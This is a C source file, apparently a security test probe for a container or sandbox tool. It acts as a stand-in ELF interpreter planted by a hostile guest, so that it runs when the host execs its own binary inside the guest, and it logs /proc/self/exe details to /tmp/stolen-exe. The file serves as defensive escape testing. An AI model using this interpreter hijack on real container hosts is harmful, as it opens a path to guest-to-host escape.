/*
 * A stand-in for the ELF interpreter (/lib64/ld-linux-x86-64.so.2) that a hostile guest
 * installs in its own tree: when the host makes the guest exec a HOST binary (a
 * `#!/proc/self/exe` script run by a helper whose /proc/self/exe is the host's
 * vs-enter or vs-start), the kernel maps that binary and hands control to this code
 * before any of the binary's own code runs. A real Debian guest gets the same with
 * /etc/ld.so.preload and its own ld.so. It records what /proc/self/exe is (device,
 * inode, link text) in /tmp/stolen-exe and on stdout, then exits 0.
 *
 * No libc (it runs as an interpreter, with the host binary's auxv): raw syscalls only.
 * Built by build-attack-probe.ts: gcc -static -nostdlib -fno-stack-protector.
 */
#define SYS_write 1
#define SYS_open 2
#define SYS_close 3
#define SYS_fstat 5
#define SYS_readlink 89
#define SYS_exit_group 231

static long sys3(long n, long a, long b, long c) {
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return r;
}

static char *put(char *p, const char *s) {
  while (*s) *p++ = *s++;
  return p;
}

static char *num(char *p, unsigned long v) {
  char t[24];
  int i = 0;
  do t[i++] = (char)('0' + v % 10), v /= 10;
  while (v);
  while (i) *p++ = t[--i];
  return p;
}

void _start(void) {
  char line[512], link[256];
  unsigned long st[18];
  char *p = put(line, "stolen-exe ");
  long fd = sys3(SYS_open, (long)"/proc/self/exe", 0 /* O_RDONLY */, 0);
  if (fd >= 0 && sys3(SYS_fstat, fd, (long)st, 0) == 0) {
    p = num(p, st[0]); /* st_dev */
    p = put(p, " ");
    p = num(p, st[1]); /* st_ino */
  } else {
    p = put(p, "denied ");
    p = num(p, (unsigned long)-fd);
  }
  long n = sys3(SYS_readlink, (long)"/proc/self/exe", (long)link, sizeof link - 1);
  link[n > 0 ? n : 0] = 0;
  p = put(p, " ");
  p = put(p, link);
  p = put(p, "\n");
  long out = sys3(SYS_open, (long)"/tmp/stolen-exe", 01 | 0100 | 02000 /* O_WRONLY|O_CREAT|O_APPEND */, 0644);
  if (out >= 0) sys3(SYS_write, out, (long)line, p - line);
  sys3(SYS_write, 1, (long)line, p - line);
  sys3(SYS_exit_group, 0, 0, 0);
  for (;;) {
  }
}
